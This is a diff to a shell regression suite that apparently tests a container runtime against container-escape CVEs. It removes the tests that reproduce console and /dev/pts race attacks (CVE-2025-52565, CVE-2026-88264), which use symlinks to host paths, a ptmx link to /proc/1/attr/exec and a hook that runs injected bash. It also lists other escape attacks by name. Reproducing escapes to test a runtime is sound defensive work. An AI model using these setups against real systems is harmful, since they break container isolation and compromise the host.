@@ -121,22 +121,6 @@ dev_link() {
   done
 }
 
-console_link() {
-  local how
-  for how in create 'run --detach'; do
-    outside_bundle true
-    ln -s "$outside/console" "$bundle/rootfs/dev/console"
-    edit '.process.terminal = true'
-    # A devpts is needed for a terminal; /dev itself stays the image's.
-    edit '.mounts |= map(select(.destination as $d | ["/dev", "/dev/shm", "/dev/mqueue"] | index($d) | not))'
-    "$script_dir/console-socket" "$bundle/console.sock" >"$bundle/console.text" 2>&1 &
-    wait_until test -S "$bundle/console.sock"
-    # shellcheck disable=SC2086
-    attempt $how --console-socket "$bundle/console.sock"
-    outside_holds
-  done
-}
-
 null_link_to_a_host_file() {
   outside_bundle sh -c 'echo overwritten >/dev/null; cat </dev/null; stat -L -c %F /dev/null'
   echo $canary >"$bundle/host-file"
@@ -172,9 +156,6 @@ host_file_holds() {
 
 # --- exchanged while it is set up ----------------------------------------------------------------
 
-# at_hook ACTION: the attacker acts when the root is built, and not yet entered, masked and read-only.
-at_hook() { edit '.hooks.createRuntime = [{path: "/bin/bash", args: ["bash", "-c", $text]}]' --arg text "cd '$bundle'; $1"; }
-
 mask_null() {
   local how
   for how in run create; do
@@ -189,42 +170,6 @@ mask_null() {
     case $out in *secret* | *attack*) breached "$how: read through the mask: $out" ;; esac
     of_myrt contains "$out" 'mask 1:3'
   done
-}
-
-# /dev is a volume that the attacker has too: which directory `pts` is, is his choice.
-console_bundle() {
-  outside_bundle sh -c 'stat -c "console %t:%T" /dev/console >/result'
-  mkdir -p "$bundle/volume/pts" "$bundle/volume/evil"
-  echo attack >"$bundle/volume/evil/0"
-  edit '.process.terminal = true
-    | .mounts |= map(if .destination == "/dev" then {destination: "/dev", type: "bind", source: "volume", options: ["bind"]} else . end)'
-  "$script_dir/console-socket" "$bundle/console.sock" >"$bundle/console.text" 2>&1 &
-  wait_until test -S "$bundle/console.sock"
-}
-start_and_see_console() {
-  if [ "$status" -eq 0 ] && status_is created; then try timeout 30 "$RUNTIME" --root "$state_root" start "$id"; fi
-  [ "$status" -ne 0 ] || wait_status stopped
-  if [ -s "$bundle/rootfs/result" ]; then
-    grep -q 'console 88:' "$bundle/rootfs/result" || breached "/dev/console: $(<"$bundle/rootfs/result")"
-  fi
-}
-console_exchange() {
-  local how
-  for how in create 'run --detach'; do
-    console_bundle
-    # shellcheck disable=SC2086
-    at_stop console "'$RACER' swap '$bundle/volume/pts' '$bundle/volume/evil'" \
-      $how --bundle "$bundle" --console-socket "$bundle/console.sock" "$id"
-    start_and_see_console
-    [ -s "$bundle/rootfs/result" ] || fail 'the container says nothing' "$err"
-  done
-}
-pts_exchange() {
-  console_bundle
-  ln -s /proc/1/attr/exec "$bundle/volume/evil/ptmx"
-  at_hook "'$RACER' swap volume/pts volume/evil"
-  try timeout 60 "$RUNTIME" --root "$state_root" create --bundle "$bundle" --console-socket "$bundle/console.sock" "$id"
-  start_and_see_console
 }
 
 read_only_root() {
@@ -421,14 +366,11 @@ attack CVE-2021-30465 stop 'a destination is exchanged for a link out' mount_exc
 attack CVE-2023-27561 static '/proc is a chain of links' proc_link_chain without-real-directory
 attack CVE-2024-45310 stop 'the parent of what is made is exchanged for a link out' mkdir_exchange without-parent-fd
 attack CVE-2025-31133 static "/dev/null is exchanged before the masks" mask_null without-own-null
-attack CVE-2025-52565 stop '/dev/pts is exchanged before the console' console_exchange without-console-fd
-attack CVE-2025-52565 static '/dev/pts is exchanged before the terminal is opened' pts_exchange
 attack CVE-2025-52881 static 'a link leads a mount into /proc' mount_into_procfs without-procfs-target-check
 attack CVE-2025-52881 static 'the joined namespace has a fake /proc/sys' joined_fake_procfs without-private-procfs
 attack CVE-2025-54867 static '/sys is a link' sys_link without-real-directory
 attack CVE-2025-24965 static 'a link at every name that a runtime writes' runtime_written_names without-nofollow
 attack CVE-2026-41579 static '/dev is a link' dev_link without-resolve-in-root
-attack CVE-2026-88264 static '/dev/console is a link' console_link without-nofollow
 attack CVE-2026-88265 static '/dev/null is a link to a bound host file' null_link_to_a_host_file without-device-check
 attack CVE-2026-115521 static "a read-only root with an image's /proc/self/fd" read_only_root without-root-fd
 attack chroot static 'the runtime itself is in a chroot' runtime_in_a_chroot without-namespace-root
